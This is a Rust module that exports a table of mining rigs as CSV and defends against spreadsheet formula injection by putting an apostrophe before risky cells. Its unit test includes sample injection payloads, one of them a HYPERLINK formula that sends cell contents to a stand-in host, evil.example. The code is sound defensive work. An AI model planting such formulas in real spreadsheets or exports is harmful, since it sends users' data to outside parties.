//! The table as CSV (RFC 4180), for spreadsheets, which take some texts for formulas.

use std::fmt::{self, Write};

use super::super::facts::RigFacts;
use super::super::show;
use super::column::{COLUMNS, Cell};

/// The first line: names of the columns.
pub(super) fn head() -> String {
    let names: Vec<_> = COLUMNS.iter().map(|(name, _)| *name).collect();
    names.join(",") + "\r\n"
}

/// Writes the line of a rig.
pub(super) fn line(rig: &RigFacts<'_>, out: &mut String) {
    for (at, (_, column)) in COLUMNS.iter().enumerate() {
        if at > 0 {
            out.push(',');
        }
        if let Some(cell) = rig.cell(*column) {
            // A text takes everything.
            let _written = write(&cell, out);
        }
    }
    out.push_str("\r\n");
}

fn write(cell: &Cell<'_>, out: &mut String) -> fmt::Result {
    match cell {
        Cell::Text(text) => {
            quote(text, out);
            Ok(())
        }
        Cell::Word(word, _) => out.write_str(word),
        Cell::Number(number) => write!(out, "{number}"),
        Cell::Rate(rate) => write!(out, "{}", show::per_second(Some(*rate)).unwrap_or_default()),
        Cell::Percent(percent) => write!(out, "{percent}"),
        Cell::Flag(flag) => write!(out, "{flag}"),
    }
}

/// Writes a text in quotes. What a spreadsheet would take for a formula gets an apostrophe in front: such
/// texts come from rigs and pools, and a formula could send the sheet to somebody.
fn quote(text: &str, out: &mut String) {
    const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    out.push('"');
    if text.starts_with(FORMULA) {
        out.push('\'');
    }
    for c in text.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_is_taken_for_a_formula_or_leaves_its_cell() {
        for (text, written) in [
            ("miner 0.1.0", r#""miner 0.1.0""#),
            ("", r#""""#),
            ("a,b;c", r#""a,b;c""#),
            (r#"say "x""#, r#""say ""x""""#),
            ("=1+1", r#""'=1+1""#),
            (
                r#"=HYPERLINK("http://evil.example?"&A1,"x")"#,
                r#""'=HYPERLINK(""http://evil.example?""&A1,""x"")""#,
            ),
            ("+1", r#""'+1""#),
            ("-1", r#""'-1""#),
            ("@SUM(A1)", r#""'@SUM(A1)""#),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("＝1", r#""'＝1""#),
            (r#"","=1"#, r#"""",""=1""#),
        ] {
            let mut out = String::new();
            quote(text, &mut out);
            assert_eq!(out, written, "{text:?}");
        }
    }
}
